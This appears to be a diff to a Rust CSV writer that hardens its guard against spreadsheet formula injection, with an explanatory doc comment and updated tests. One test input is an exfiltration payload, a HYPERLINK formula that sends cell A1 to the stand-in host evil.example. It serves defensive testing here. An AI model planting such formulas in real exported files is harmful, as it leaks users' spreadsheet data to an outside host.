@@ -91,20 +91,25 @@ impl Session {
     }
 }
 
-/// Appends one CSV line (RFC 4180 quoting). Cells that a spreadsheet would
-/// run as a formula (`=`, `@`, tab or CR first, or `+`/`-` not followed by a
-/// digit, so phone numbers stay intact) get a leading apostrophe.
+/// Appends one CSV line (RFC 4180 quoting).
+///
+/// Every cell a spreadsheet would read as a formula — first character `=`,
+/// `+`, `-`, `@`, tab or CR — gets a leading apostrophe `'`, with no
+/// exception for numbers: `-1+HYPERLINK(…)` is a formula as much as `=1`.
+/// The apostrophe is the OWASP recommendation; Excel and LibreOffice Calc
+/// read it as "this cell is text" and hide it, so a phone number
+/// `+49 30 1234` shows as itself (as text, not as the number 49301234) and
+/// a plain-text reader sees `'+49 30 1234`, which is still readable.
 pub fn csv_line(out: &mut String, cells: &[&str]) {
     for (i, cell) in cells.iter().enumerate() {
         if i > 0 {
             out.push(',');
         }
         let guarded;
-        let mut chars = cell.chars();
-        let first = chars.next();
-        let second_is_digit = chars.next().is_some_and(|c| c.is_ascii_digit() || c == ' ');
-        let formula = matches!(first, Some('=' | '@' | '\t' | '\r'))
-            || (matches!(first, Some('+' | '-')) && !second_is_digit);
+        let formula = matches!(
+            cell.chars().next(),
+            Some('=' | '+' | '-' | '@' | '\t' | '\r')
+        );
         let cell = if formula {
             guarded = format!("'{cell}");
             guarded.as_str()
@@ -600,7 +605,25 @@ mod tests {
         assert_eq!(s, "\"a,b\",\"say \"\"hi\"\"\",'=HYPERLINK(1),plain\r\n");
         let mut t = String::new();
         csv_line(&mut t, &["+49 171 2345678", "+SUM(A1)", "-1", "@x"]);
-        assert_eq!(t, "+49 171 2345678,'+SUM(A1),-1,'@x\r\n");
+        assert_eq!(t, "'+49 171 2345678,'+SUM(A1),'-1,'@x\r\n");
+        let mut u = String::new();
+        csv_line(
+            &mut u,
+            &[
+                "-1+HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                "+1 cmd",
+                "- 2",
+                "\tx",
+                "\rx",
+                "a-1",
+                "'already",
+            ],
+        );
+        assert_eq!(
+            u,
+            "\"'-1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\
+             '+1 cmd,'- 2,'\tx,\"'\rx\",a-1,'already\r\n"
+        );
     }
 
     #[test]
